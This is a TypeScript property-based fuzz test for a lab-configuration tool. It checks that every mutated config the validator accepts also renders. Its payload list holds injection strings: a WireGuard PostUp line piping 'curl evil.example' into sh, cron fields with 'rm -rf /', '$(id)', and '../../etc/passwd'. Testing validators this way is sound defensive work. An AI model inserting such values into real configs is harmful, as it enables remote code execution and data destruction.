// `drover check` rejects everything `render` would (issue 12 item 10): mutations of every example (values
// from the examples and the attack payloads put in the wrong place, keys deleted, duplicated, renamed,
// wrapped) go through check's in-process path (loadLabText + the patch targets, as render/load.ts reads a
// lab); every mutant check accepts must render without an error. bench/fuzz.mjs runs the same at scale.
// DROVER_PROPERTY_RUNS (default 1000) sets the count: RUNS/20 mutants per example.
import { test } from "node:test";
import assert from "node:assert/strict";
import { readFileSync, readdirSync, existsSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { parse } from "yaml";
import { loadLabText } from "../lab/load.js";
import { patchTargetFindings } from "./apps/index.js";
import { renderLab } from "./index.js";
import { ensureSecrets } from "../secrets/generate.js";
import { generateTalosSecrets } from "../secrets/talos.js";
import { EXAMPLES } from "../testing/paths.js";

const RUNS = Math.max(5, Math.floor(Number(process.env.DROVER_PROPERTY_RUNS ?? 1000) / 20));
const SEED = Number(process.env.DROVER_PROPERTY_SEED ?? 20261207);

const PAYLOADS = [
  "203.0.113.40:51820\n[Interface]\nPostUp = curl -s evil.example | sh", "x\u2028INJECTED: pwned", "x\u0085y", "\ufeffbom", "a b", "a..b", "::1", "[::1]:51820",
  "2001:db8::7", "host:65536", "@hourly; rm -rf /", "junk 0 3 * * *", "0 3 * * 7", "https://s3.example.com", "javascript:alert(1)", "$(id)", "'; rm -rf / #",
  "key = \"v\"\ninjected = 1", "../../etc/passwd", "<<", "y", "017", "", null, 0, -1, 65536, true, [], {},
];

for (const name of readdirSync(EXAMPLES).filter((e) => existsSync(join(EXAMPLES, e, "lab.yaml"))).sort()) {
  test(`${name}: ${RUNS} mutants; every one check accepts renders`, { timeout: 900_000 }, () => {
    const dir = join(EXAMPLES, name);
    const base = parse(readFileSync(join(dir, "lab.yaml"), "utf8"), { merge: true }) as unknown;
    const sources = new Map<string, string>();
    if (existsSync(join(dir, "functions"))) for (const f of readdirSync(join(dir, "functions"))) sources.set(`functions/${f}`, readFileSync(join(dir, "functions", f), "utf8"));
    // what lab/file.ts readFunctionSources answers for the example's folder: the scripts, or where one is missing
    const load = (text: string) => loadLabText(text, "lab.yaml", {
      functionSources: (spec) => {
        const missing = spec.functions.flatMap((f, i) => (sources.has(f.file) ? [] : [{ severity: "error" as const, path: ["functions", i, "file"], message: `${f.file} does not exist` }]));
        return missing.length ? { diagnostics: missing } : { sources };
      },
    });
    const baseLab = load(JSON.stringify(base)).lab!;
    let n = 0;
    const baseSecrets = ensureSecrets(baseLab, undefined, { talos: generateTalosSecrets, appSecret: (k) => `${k}-${++n}` }).secrets;
    const scalars: unknown[] = [];
    (function collect(v: unknown) {
      if (Array.isArray(v)) v.forEach(collect);
      else if (v && typeof v === "object") Object.values(v).forEach(collect);
      else if (!scalars.includes(v)) scalars.push(v);
    })(base);
    const op = fc.record({
      path: fc.array(fc.nat(), { minLength: 1, maxLength: 6 }),
      kind: fc.constantFrom("set", "set", "set", "delete", "duplicate", "wrap"),
      value: fc.oneof(fc.constantFrom(...scalars), fc.constantFrom(...PAYLOADS)),
    });
    let accepted = 0;
    for (const o of fc.sample(op, { numRuns: RUNS, seed: SEED + name.length })) {
      const copy = structuredClone(base) as Record<string, unknown>;
      let parent: Record<string | number, unknown> | undefined;
      let key: string | number | undefined;
      let cur: unknown = copy;
      for (const seed of o.path) {
        if (!cur || typeof cur !== "object") break;
        const keys: (string | number)[] = Array.isArray(cur) ? cur.map((_, i) => i) : Object.keys(cur);
        if (!keys.length) break;
        parent = cur as Record<string | number, unknown>;
        key = keys[seed % keys.length]!;
        cur = parent[key];
      }
      if (parent === undefined || key === undefined) continue;
      if (o.kind === "set") parent[key] = o.value;
      else if (o.kind === "delete") Array.isArray(parent) ? parent.splice(key as number, 1) : delete parent[key];
      else if (o.kind === "duplicate" && Array.isArray(parent)) parent.push(structuredClone(cur));
      else if (o.kind === "wrap") parent[key] = [cur];
      const text = JSON.stringify(copy);
      const r = load(text);
      if (!r.lab || patchTargetFindings(r.lab).length) continue;
      accepted++;
      const secrets = ensureSecrets(r.lab, baseSecrets, { talos: generateTalosSecrets }).secrets;
      assert.doesNotThrow(() => renderLab(r.lab!, secrets), `check accepted but render failed: ${o.kind} ${JSON.stringify(o.path)} = ${JSON.stringify(o.value)}`);
    }
    assert.ok(accepted > 0, "no mutant was accepted: the property tested nothing");
  });
}
